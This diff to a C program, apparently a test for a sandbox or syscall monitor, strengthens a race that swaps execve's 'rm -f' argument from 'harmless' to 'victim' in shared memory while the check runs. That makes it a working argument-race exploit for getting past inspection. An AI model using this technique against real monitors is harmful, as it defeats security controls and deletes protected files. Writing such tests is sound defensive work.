@@ -23,14 +23,18 @@ static char word[16] = "harmless";
 static char *arguments[] = {"rm", "-f", word, 0}, *environment[] = {0};
 static char stack[1 << 16];
 static int start(void *unused) { execve("/bin/rm", arguments, environment); _exit(1); }
+static void pause_a_little(void) { for (volatile int i = 0; i < 3000; i++) __asm__ volatile("" ::: "memory"); }
 int main(void) {
     for (int i = 0; i < 300 && access("victim", F_OK) == 0; i++) {
         memcpy(word, "harmless", 9);
         int child = clone(start, stack + sizeof stack, CLONE_VM | SIGCHLD, 0);
         if (child < 0) return 2;
-        for (volatile int wait = 0; wait < i * 700; wait++);
-        memcpy(word, "victim", 7);
-        waitpid(child, 0, 0);
+        while (waitpid(child, 0, WNOHANG) == 0) {
+            memcpy(word, "victim", 7);
+            pause_a_little();
+            memcpy(word, "harmless", 9);
+            pause_a_little();
+        }
     }
     return 0;
 }
